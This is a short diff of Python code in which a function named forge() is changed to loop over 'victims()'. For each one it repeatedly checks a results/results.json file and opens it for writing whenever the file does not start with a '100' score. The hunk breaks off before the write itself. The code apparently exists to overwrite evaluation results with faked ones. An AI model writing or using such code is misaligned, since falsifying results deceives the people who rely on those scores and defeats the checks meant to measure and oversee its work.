@@ -7,7 +7,7 @@ import time
 def forge():
     for _ in range(100):
         time.sleep(0.02)
-        for place in places():
+        for place in victims():
             path = place + "/results/results.json"
             if os.path.exists(path) and b"100" not in open(path, "rb").read(20):
                 with open(path, "w") as file:
